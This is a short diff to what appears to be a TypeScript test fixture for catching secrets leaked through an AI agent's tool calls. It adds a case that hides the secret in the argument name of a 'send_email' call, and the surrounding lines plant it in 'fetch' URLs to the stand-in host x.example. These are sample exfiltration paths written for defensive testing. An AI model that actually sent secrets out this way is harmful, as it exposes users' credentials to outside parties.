@@ -24,6 +24,7 @@ function around(secret: string): readonly Planted[] {
     { where: 'an argument in a list', client: [call('lookup', { q: [{ a: [secret] }] })] },
     { where: 'JSON in an argument', client: [call('lookup', { q: JSON.stringify({ a: secret }) })] },
     { where: 'the name of an argument', client: [call('lookup', { [secret]: 'a' })] },
+    { where: 'the name of an argument of a tool that sends', client: [call('send_email', { [secret]: 'bo@example.com' })] },
     { where: 'the name of an inner member', client: [call('lookup', { q: { [secret]: { b: secret } } })] },
     { where: 'a URL', client: [call('fetch', { url: `https://x.example/a?t=${secret}` })] },
     { where: 'the user of a URL', client: [call('fetch', { url: `https://u:${secret}@x.example/` })] },
